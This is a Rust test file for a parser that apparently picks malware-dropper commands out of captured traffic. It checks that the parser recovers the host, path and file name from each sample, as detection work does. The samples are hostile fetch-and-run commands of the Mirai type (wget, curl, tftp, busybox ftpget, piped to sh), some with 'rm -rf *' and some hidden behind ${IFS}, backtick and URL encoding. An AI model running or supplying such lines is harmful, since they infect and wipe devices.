use super::*;
use crate::dropper::decode::decode;

fn shown(text: &str) -> String {
    find(&decode(text.as_bytes())).map_or_else(
        || "none".to_owned(),
        |Dropper { tool, host, port, path, file }| {
            let port = port.map(|port| format!(":{port}")).unwrap_or_default();
            format!("{} {host}{port} {path} {file}", tool.name())
        },
    )
}

#[test]
fn parses_every_form_of_every_tool() {
    for (text, expected) in [
        ("wget http://192.0.2.1/bins/a.sh", "wget 192.0.2.1 /bins/a.sh a.sh"),
        ("wget http://192.0.2.1:8080/a.sh -O /tmp/x", "wget 192.0.2.1:8080 /a.sh a.sh"),
        ("wget -O x http://192.0.2.1/a", "wget 192.0.2.1 /a a"),
        ("wget -qO- http://192.0.2.1/a|sh", "wget 192.0.2.1 /a a"),
        ("wget -q -t 3 -T 5 --no-check-certificate https://h.example/a", "wget h.example /a a"),
        ("wget 192.0.2.1/a/b", "wget 192.0.2.1 /a/b b"),
        ("wget 192.0.2.1", "wget 192.0.2.1  "),
        ("wget http://h", "wget h  "),
        ("wget \"http://192.0.2.1/a;b?c=1&d=2\" -O x", "wget 192.0.2.1 /a;b?c=1&d=2 a;b"),
        ("sh -c 'wget http://192.0.2.1/a'", "wget 192.0.2.1 /a a"),
        ("{\"cmd\":\"wget http://192.0.2.1/a\",\"b\":1}", "wget 192.0.2.1 /a a"),
        ("/bin/busybox wget -g 192.0.2.1 -l /tmp/x -r /bins/mips", "wget 192.0.2.1 /bins/mips mips"),
        ("$(/bin/busybox wget -g 192.0.2.1 -P 80 -r /m -l x)", "wget 192.0.2.1 /m m"),
        ("curl http://192.0.2.1/a", "curl 192.0.2.1 /a a"),
        ("curl -O http://192.0.2.1/a", "curl 192.0.2.1 /a a"),
        ("curl -s -L -o /tmp/x -A agent http://192.0.2.1/a", "curl 192.0.2.1 /a a"),
        ("tftp -g -r mirai.arm7 192.0.2.1", "tftp 192.0.2.1 mirai.arm7 mirai.arm7"),
        ("tftp -r a.sh -l b -g 192.0.2.1 69", "tftp 192.0.2.1:69 a.sh a.sh"),
        ("tftp 192.0.2.1 -c get a/b.sh", "tftp 192.0.2.1 a/b.sh b.sh"),
        ("tftp -l a -g 2001:db8::1", "tftp 2001:db8::1 a a"),
        ("ftpget -v -u anonymous -p anonymous -P 21 192.0.2.1 x.sh y/z.sh", "ftpget 192.0.2.1:21 y/z.sh z.sh"),
        ("ftpget 192.0.2.1 a.sh", "ftpget 192.0.2.1 a.sh a.sh"),
        ("wget http://[2001:db8::1]:80/a", "wget 2001:db8::1:80 /a a"),
    ] {
        assert_eq!(shown(text), expected, "{text}");
    }
}

#[test]
fn finds_commands_behind_every_encoding() {
    let expected = "wget 192.0.2.1:81 /a.sh a.sh";
    for text in [
        "cd+/tmp;rm+-rf+*;wget+http://192.0.2.1:81/a.sh;sh+a.sh",
        "x=1&cmd=wget%20http%3A%2F%2F192.0.2.1%3A81%2Fa.sh&y=2",
        "`wget${IFS}http://192.0.2.1:81/a.sh`",
        "$(wget$IFS$9http://192.0.2.1:81/a.sh)",
        "a&amp;&amp;wget http://192.0.2.1:81/a.sh&amp;&amp;b",
        "<x>;wget&#32;http://192.0.2.1:81/a.sh</x>",
        "x|wget\thttp://192.0.2.1:81/a.sh>/dev/null",
        "vars[1][]=wget http://192.0.2.1:81/a.sh",
        "busybox wget http://192.0.2.1:81/a.sh\r\nsh a.sh",
        "wget; curl -h; wget http://192.0.2.1:81/a.sh; curl http://192.0.2.2/b",
    ] {
        assert_eq!(shown(text), expected, "{text}");
    }
    assert_eq!(shown("wget http://192.0.2.1/a+b"), "wget 192.0.2.1 /a+b a+b");
}

#[test]
fn ignores_words_that_resemble_commands() {
    for text in [
        "",
        "wget",
        "wget ",
        "wget -O",
        "wget x.sh",
        "Wget/1.21",
        "curl/8.0 http://192.0.2.1/a",
        "xwget http://192.0.2.1/a",
        "wget2 http://192.0.2.1/a",
        "wget http://$HOST/a",
        "tftp 192.0.2.1",
        "tftp -g -r a.sh server",
        "ftpget or tftp are tools",
        "ftpget 192.0.2.1",
        "wget -g 192.0.2.1",
        "wget 'http://192.0.2.1 /a b'",
    ] {
        assert_eq!(shown(text), "none", "{text}");
    }
}

#[test]
fn unclosed_quote_ends_at_its_line() {
    assert_eq!(shown("wget 'http://192.0.2.1/a"), "wget 192.0.2.1 /a a");
    assert_eq!(shown("wget '\nwget http://192.0.2.1/a"), "wget 192.0.2.1 /a a");
}
